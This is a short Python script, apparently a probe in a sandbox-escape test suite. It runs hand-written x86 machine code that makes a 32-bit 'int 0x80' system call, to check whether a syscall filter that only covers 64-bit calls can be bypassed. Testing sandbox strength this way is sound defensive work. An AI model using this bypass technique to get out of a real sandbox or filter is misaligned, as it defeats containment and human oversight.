"""Enter the kernel as a 32-bit program, past a filter that knows 64 bit only."""
import ctypes
import mmap
import platform

from attempt import done, escape

if platform.machine() == "x86_64":
    # push rbx; mov eax, 20 (getpid in the 32-bit table); int 0x80; pop rbx; ret
    code = bytes.fromhex("53" "b814000000" "cd80" "5b" "c3")
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    enter = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
    found = enter()
    if found >= 0:
        escape(f"a 32-bit call gave {found}")
done()
